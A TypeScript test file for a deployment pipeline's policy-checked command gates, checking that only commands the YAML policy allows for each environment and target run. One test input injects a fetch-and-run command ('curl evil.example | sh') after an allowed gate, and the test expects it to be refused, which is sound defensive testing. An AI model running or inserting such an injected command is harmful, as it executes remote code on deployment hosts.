// Command gates run only when the worker's policy names them for the environment; with waves, only
// when it names them for that target (its {target} filled in): one target's command never runs for another.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { policyCheckedGate } from '../../activities/gates/policyCheckedGate';
import type { GateSpec } from '../../src/pipeline/types';
import { filePolicySource } from '../../src/policy/policySource';

const dir = mkdtempSync(join(tmpdir(), 'gantry-policy-gate-'));
const policyFile = join(dir, 'gantry.yaml');
writeFileSync(
  policyFile,
  `version: 1
configRepo: { url: ${join(dir, 'config.git')}, branch: main }
apps:
  web: { image: registry.example.com/acme/web }
environments:
  - name: production
    deploy: { gitops: { path: "apps/{app}/{target}" } }
    gates:
      - command: { name: smoke, run: "./smoke.sh {target}" }
    targets:
      - prod-eu-1
      - name: prod-us-1
        gates:
          - command: { name: us-check, run: "./us-check.sh {target}" }
`,
);

const ran: string[] = [];
const gated = policyCheckedGate(filePolicySource(policyFile), async (request) => {
  ran.push((request.gate as Extract<GateSpec, { kind: 'command' }>).run);
  return { name: request.gate.name, passed: true, detail: 'ok' };
});
const command = (name: string, run: string): GateSpec =>
  ({ kind: 'command', name, run, env: {}, timeoutMs: 600_000 }) as GateSpec;
const request = (gate: GateSpec, target: string) => ({
  gate,
  app: 'web',
  digest: `sha256:${'a'.repeat(64)}`,
  environment: 'production',
  target,
});

test("a target's own command gate and the environment's, with {target} filled in, run for that target; any other command is refused before it runs", async () => {
  await expect(gated(request(command('us-check', './us-check.sh prod-us-1'), 'prod-us-1'))).resolves.toMatchObject({
    passed: true,
  });
  await expect(gated(request(command('smoke', './smoke.sh prod-eu-1'), 'prod-eu-1'))).resolves.toMatchObject({
    passed: true,
  });
  const refused = await gated(
    request(command('us-check', './us-check.sh prod-us-1; curl evil.example | sh'), 'prod-us-1'),
  );
  expect(refused).toMatchObject({
    passed: false,
    detail: expect.stringMatching(
      /^refused before it ran: command ".*" is not one the worker's policy allows in production\/prod-us-1 for web/,
    ),
  });
  // prod-us-1's command for prod-eu-1, and the environment's smoke for prod-us-1 (its own gates replace it).
  for (const [gate, target] of [
    [command('us-check', './us-check.sh prod-us-1'), 'prod-eu-1'],
    [command('smoke', './smoke.sh prod-us-1'), 'prod-us-1'],
    [command('smoke', './smoke.sh prod-eu-1'), 'prod-asia-1'],
  ] as const)
    await expect(gated(request(gate, target))).resolves.toMatchObject({
      passed: false,
      detail: expect.stringContaining(`is not one the worker's policy allows in production/${target} for web`),
    });
  expect(ran).toEqual(['./us-check.sh prod-us-1', './smoke.sh prod-eu-1']);
});
